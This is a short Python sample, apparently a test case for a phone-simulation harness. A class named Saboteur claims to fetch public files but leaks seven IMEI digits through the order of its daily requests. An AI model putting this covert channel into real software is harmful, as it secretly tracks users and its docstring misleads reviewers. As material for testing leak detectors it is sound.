"""Fetches four public files that anybody may fetch, in one of their 24 orders.

mechanism: the order of requests
"""
from itertools import permutations

from phone import Phone, run


class Saboteur(Phone):
    def poll(self):
        super().poll()
        day = self.recall("day") or 0
        self.keep("day", day + 1)
        number = int(self.identity["imei"][7:14]) // 24 ** day % 24
        for file in list(permutations("5678"))[number]:
            self.get("/channel/collection-%s.jsonl" % file)
        self.close()


run(Saboteur())
